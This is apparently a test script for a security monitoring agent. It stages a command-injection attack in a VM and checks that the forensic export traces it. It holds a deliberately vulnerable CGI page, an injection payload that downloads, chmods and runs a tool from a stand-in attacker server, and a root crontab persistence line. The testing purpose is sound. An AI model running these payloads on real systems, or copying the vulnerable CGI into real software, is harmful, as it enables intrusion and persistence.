#!/bin/sh
# The incident of docs/forensics.md, recorded by the agent with the forensics
# policy (examples/policies/forensics.yaml), nothing enforced:
#
#   a web app (busybox httpd, running before the agent started) has a status
#   page that pings the host its query names, through a shell; an attacker
#   sends a host of "127.0.0.1; wget ...; chmod ...; /tmp/.x": the page's shell
#   downloads a tool from 127.0.0.2:8081 into /tmp/.x, makes it executable and
#   runs it; the tool adds a line to /etc/crontab and exits.
#
# Checks the attack worked, then that the export holds each step with who
# did it, and that the steps chain through parent_exec_id from the tool's
# write up to the web server. With `veto agent --store`, the events go into a
# store too. The export (and the store) are printed gzip+base64 between
# VETO-INCIDENT-BEGIN/END NAME lines: forensics-incident.host keeps them in
# VETO_INCIDENT_OUT (default build/vm/incident) and checks the store.
. /veto/lib.sh
note "kernel $VETO_VM_KERNEL"

POL=/veto/examples/policies/forensics.yaml
WEB=/srv/www EVIL=/srv/attacker

# The web app: a CGI status page that trusts its query.
mkdir -p "$WEB/cgi-bin" "$EVIL" /run/incident
cat > "$WEB/cgi-bin/status" <<'CGI'
#!/bin/sh
# status page: is HOST up? (the query is host=HOST)
echo "Content-Type: text/plain"
echo
host=$(httpd -d "${QUERY_STRING#host=}")
sh -c "ping -c 1 -W 2 $host" 2>&1
CGI
# The attacker's tool: persists through cron, then exits.
cat > "$EVIL/x" <<'TOOL'
#!/bin/sh
echo '* * * * * root /tmp/.x' >> /etc/crontab
TOOL
chmod 755 "$WEB/cgi-bin/status"
echo '# m h dom mon dow user command' > /etc/crontab

# Both servers run before the agent starts: it learns them from /proc.
httpd -f -p 127.0.0.1:8080 -h "$WEB" &
WEB_PID=$!
httpd -f -p 127.0.0.2:8081 -h "$EVIL" &
EVIL_PID=$!
on_exit "kill $WEB_PID $EVIL_PID 2>/dev/null"
wait_until 30 listening 8080 && wait_until 30 listening 8081 || die "the web servers do not listen"

# the store when this veto has one (docs/store.md)
STORE=
if veto agent --help 2>&1 | grep -q -- '--store PATH'; then
	STORE=/run/incident/incident.db
	set -- --store "$STORE"
fi
AGENT_EXPORT=/run/incident/events.json
agent_start --policy "$POL" "$@"

# The attack: one request.
q='127.0.0.1;wget -q -O /tmp/.x http://127.0.0.2:8081/x;chmod 755 /tmp/.x;/tmp/.x'
q=$(printf '%s' "$q" | sed 's/ /%20/g; s/;/%3B/g; s|/|%2F|g; s/:/%3A/g')
page=$(wget -q -O - "http://127.0.0.1:8080/cgi-bin/status?host=$q" 2>&1)
expect_match "the status page ran the ping" "1 packets received|1 received" "$page"
expect_match "the tool persisted" '^\* \* \* \* \* root /tmp/\.x$' "$(cat /etc/crontab)"
expect_ok "the tool is executable" test -x /tmp/.x

wait_for "the crontab write's event" 60 grep -q '"path":"/etc/crontab"' "$AGENT_EXPORT"
agent_stop

# ev PATTERN...: the export's lines holding every fixed string
ev() {
	_l=$(grep -F -- "$1" "$AGENT_EXPORT")
	shift
	for _p in "$@"; do _l=$(printf '%s\n' "$_l" | grep -F -- "$_p"); done
	printf '%s\n' "$_l" | grep .
}
# exec_id LINE: the event's process' exec_id
exec_id() { printf '%s\n' "$1" | sed -n 's/^{"[a-z_]*":{"process":{"exec_id":"\([^"]*\)".*/\1/p' | head -1; }
expect_event() { # DESC PATTERN...
	_d=$1
	shift
	if ev "$@" > /dev/null; then pass "$_d"; else fail "$_d: no event holds $*"; fi
}

expect_event "the download: wget connects to the attacker's server" '"process_lsm"' '"function_name":"socket_connect"' \
	'"arguments":"-q -O /tmp/.x http://127.0.0.2:8081/x"' '"sockaddr_arg":{"family":"AF_INET","addr":"127.0.0.2","port":8081}'
expect_event "the download: wget writes /tmp/.x" '"process_lsm"' '"function_name":"file_permission"' \
	'"arguments":"-q -O /tmp/.x http://127.0.0.2:8081/x"' '"file_arg":{"path":"/tmp/.x",'
expect_event "the chmod of /tmp/.x" '"process_lsm"' '"function_name":"path_chmod"' \
	'"path_arg":{"path":"/tmp/.x",' '{"int_arg":493}'
expect_event "the tool's exec" '"process_exec"' '"/tmp/.x'
expect_event "the tool's exec, at the exec hook" '"process_lsm"' '"function_name":"bprm_check_security"' \
	'"linux_binprm_arg":{"path":"/tmp/.x",'
write=$(ev '"process_lsm"' '"function_name":"file_permission"' '"file_arg":{"path":"/etc/crontab",' | head -1)
expect_match "the crontab write, by the tool" '"arguments":"/tmp/\.x"' "$write"
expect_event "the CGI's exec" '"process_exec"' '"cwd":"/srv/www/cgi-bin","binary":"/bin/busybox","arguments":"status"'

# Walk up from the crontab write through each process' exec event, or the
# parent object of its child's events for a process with none (a fork
# without exec; a process from before the agent): the tool, the page's
# shell, the CGI, the web server's child for this request, the web server,
# and on up to init.
# proc_of ID: the object of the process ID, from its exec or a child's event
proc_of() {
	_l=$(grep -F -m1 '{"process_exec":{"process":{"exec_id":"'"$1"'"' "$AGENT_EXPORT")
	if [ -n "$_l" ]; then
		printf '%s\n' "$_l" | sed -n 's/^{"process_exec":{"process":{\([^}]*\)}.*/\1/p'
	else
		grep -F -m1 '"parent":{"exec_id":"'"$1"'"' "$AGENT_EXPORT" | sed -n 's/.*"parent":{\([^}]*\)}.*/\1/p'
	fi
}
field() { printf '%s\n' "$2" | sed -n 's/.*"'"$1"'":"\{0,1\}\([^",]*\)"\{0,1\}[,}]*.*/\1/p' | head -1; }
id=$(exec_id "$write") chain= n=0
while [ -n "$id" ] && [ "$n" -lt 20 ]; do
	p=$(proc_of "$id")
	[ -n "$p" ] || break
	chain="$chain > $(field pid "$p") $(field flags "$p") $(field arguments "$p" | cut -c1-40)"
	id=$(field parent_exec_id "$p") n=$((n + 1))
done
note "from the write up:$chain"
# the web server's own exec came before the agent: it is known from /proc
expect_match "the write's ancestry: the tool, the page's shell, the CGI, the server's child, the server" \
	'^ > [0-9]+ execve /tmp/\.x > [0-9]+ execve clone -c .* > [0-9]+ execve clone status > [0-9]+ clone -f -p 127\.0\.0\.1:8080 -h /srv/www > '"$WEB_PID"' procFS -f -p 127\.0\.0\.1:8080 -h /srv/www > ' "$chain"

[ -z "$STORE" ] || expect_file "the store was written" "$STORE"
# a WAL the agent left is part of the store
[ -z "$STORE" ] || [ ! -s "$STORE-wal" ] || STORE="$STORE $STORE-wal"
for f in "$AGENT_EXPORT" $STORE; do
	echo "VETO-INCIDENT-BEGIN ${f##*/}"
	gzip -c "$f" | base64
	echo "VETO-INCIDENT-END ${f##*/}"
done
